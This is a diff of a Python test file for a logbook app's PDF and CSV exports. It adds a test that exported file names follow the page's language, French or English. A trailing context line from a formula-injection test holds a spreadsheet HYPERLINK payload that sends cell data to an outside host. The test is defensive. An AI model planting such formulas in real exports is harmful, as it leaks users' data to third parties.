@@ -188,6 +188,21 @@ def test_it_exports_the_period_as_csv(client, trainer, trainee, confirmed):
     assert trainer.full_name in rows[-1][2]
 
 
+def test_the_period_s_files_are_named_in_the_page_s_language(client, trainee, confirmed):
+    client.force_login(trainee)
+    dates = f"{confirmed.start:%Y%m%d}-{confirmed.end:%Y%m%d}"
+
+    addresses = {"pdf": url("logbook_period_pdf", confirmed.pk)}
+    addresses["csv"] = url("logbook_period_csv", confirmed.pk)
+
+    for extension, address in addresses.items():
+        french = client.get(address)["Content-Disposition"]
+        english = client.get(f"/en{address}")["Content-Disposition"]
+
+        assert f'filename="carnet-de-pratique-{dates}.{extension}"' in french
+        assert f'filename="practice-logbook-{dates}.{extension}"' in english
+
+
 def test_it_exports_text_that_looks_like_a_formula_as_text(client, trainee, trainer, last_month):
     start, end = last_month
     formula = '=HYPERLINK("http://example.org/?"&A1;"Voir")'
